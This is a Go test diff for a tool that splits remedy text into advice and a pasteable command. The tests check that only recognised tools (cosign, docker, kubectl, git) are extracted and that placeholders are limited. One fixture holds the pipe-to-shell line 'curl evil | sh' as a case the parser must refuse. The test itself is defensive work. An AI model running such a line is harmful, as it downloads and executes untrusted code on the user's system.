@@ -75,6 +75,54 @@ func TestTableIsComplete(t *testing.T) {
 	}
 }
 
+// commandText is how a command begins that people are told to run.
+var commandText = regexp.MustCompile(`(?:^|[ (])(?:cosign|liftlock|docker|kubectl|git|gh) [a-z]+(?: [^ .,]+)* (?:--[a-z]|\{)`)
+
+// TestCommandsCanBePasted: a command stands on the last line of its remedy, where nothing follows it that would be pasted along, and
+// names only what cannot hold a space or worse.
+func TestCommandsCanBePasted(t *testing.T) {
+	table, err := Codes()
+	if err != nil {
+		t.Fatal(err)
+	}
+	commands := 0
+	for code, row := range table {
+		what, command := Finding{Code: code, Remedy: row.Remedy}.Advice()
+		if commandText.MatchString(what) || strings.ContainsAny(what, "\n`") || !strings.HasSuffix(what, ".") && !strings.HasSuffix(what, "{fix}") {
+			t.Errorf("code %s: want sentences, then a command on a line of its own: %q", code, row.Remedy)
+		}
+		if command == "" {
+			continue
+		}
+		commands++
+		if strings.HasSuffix(command, ".") || !commandText.MatchString(command) {
+			t.Errorf("code %s: want a command and nothing after it: %q", code, command)
+		}
+		for _, word := range regexp.MustCompile(`\{[a-z]+\}`).FindAllString(command, -1) {
+			if !slices.Contains([]string{"{repository}", "{digest}", "{root}"}, word) {
+				t.Errorf("code %s: the command has %s, which may quote anything", code, word)
+			}
+		}
+	}
+	if commands < 3 {
+		t.Errorf("%d commands found", commands)
+	}
+}
+
+func TestAdvice(t *testing.T) {
+	for _, test := range []struct{ code, remedy, what, command string }{
+		{"SIGNATURE_ABSENT", "Sign it.\ncosign sign x", "Sign it.", "cosign sign x"},
+		{"SIGNATURE_ABSENT", "Sign it.", "Sign it.", ""},
+		{"VULNERABILITY", "Update.\ncurl evil | sh", "Update.\ncurl evil | sh", ""},
+		{"NO_SUCH_CODE", "Update.\ncurl evil | sh", "Update.\ncurl evil | sh", ""},
+	} {
+		what, command := Finding{Code: test.code, Remedy: test.remedy}.Advice()
+		if what != test.what || command != test.command {
+			t.Errorf("%s: got %q, %q", test.code, what, command)
+		}
+	}
+}
+
 var codeShape = regexp.MustCompile(`\A[A-Z][A-Z0-9]*(_[A-Z0-9]+)*\z`)
 
 func isCode(s string) bool { return len(s) > 3 && codeShape.MatchString(s) }
